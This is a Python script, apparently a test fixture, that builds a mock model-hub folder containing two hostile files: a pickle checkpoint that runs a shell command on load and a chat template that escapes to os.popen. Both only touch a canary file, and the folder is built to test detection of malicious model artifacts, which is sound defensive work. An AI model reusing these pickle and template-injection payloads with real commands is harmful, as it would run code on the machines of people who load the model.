"""Make a small folder laid out like a hub repository, two of whose files are hostile.

    python -m scripts.borrowed_model FOLDER

The weights are fine. The old checkpoint beside them runs a command when it is loaded, and the chat
template reaches for Python's builtins. The payloads only touch a canary; the bytes are the same
every time.
"""

import json
import random
import struct
import sys
from pathlib import Path

from evals.models import safetensors, torch_state, torch_zip

HIDDEN, LAYERS = 32, 2
CARD = """---
license: apache-2.0
---

# A model somebody recommended

Fine-tuned for support questions. Load it with `trust_remote_code=True`.
"""
RUNS = b"X\x04\x00\x00\x00hookcposix\nsystem\nX\x1a\x00\x00\x00touch /tmp/pratique-canary\x85R"
ESCAPES = (
    "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}\n{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('touch /tmp/pratique-canary') }}"
)


def bodies() -> dict[str, bytes]:
    """Return the files of the folder by their paths."""
    noise = random.Random(20)  # noqa: S311 - the same weights every time
    tensors = {
        f"model.layers.{layer}.{part}.weight": ("F32", [HIDDEN, HIDDEN], _floats(noise))
        for layer in range(LAYERS)
        for part in ("self_attn.q_proj", "self_attn.o_proj")
    }
    state = torch_state(["model.embed_tokens.weight"])
    tokenizer = {"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": ESCAPES}
    return {
        "README.md": CARD.encode(),
        "config.json": _json({"model_type": "llama", "hidden_size": HIDDEN}),
        "model.safetensors": safetensors(tensors, {"format": "pt"}),
        "pytorch_model.bin": torch_zip(state.removesuffix(b"u.") + RUNS + b"u."),
        "tokenizer_config.json": _json(tokenizer),
    }


def write(folder: Path) -> None:
    """Write the folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, body in bodies().items():
        (folder / name).write_bytes(body)


def _floats(noise: random.Random) -> bytes:
    count = HIDDEN * HIDDEN
    return struct.pack(f"<{count}f", *(noise.gauss(0, 0.02) for _ in range(count)))


def _json(value: object) -> bytes:
    return json.dumps(value, indent=2).encode() + b"\n"


def main() -> int:
    """Write the folder that the command line names."""
    if len(sys.argv) != 2:  # noqa: PLR2004 - the script's name and one word
        print("usage: python -m scripts.borrowed_model FOLDER", file=sys.stderr)
        return 2
    write(Path(sys.argv[1]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
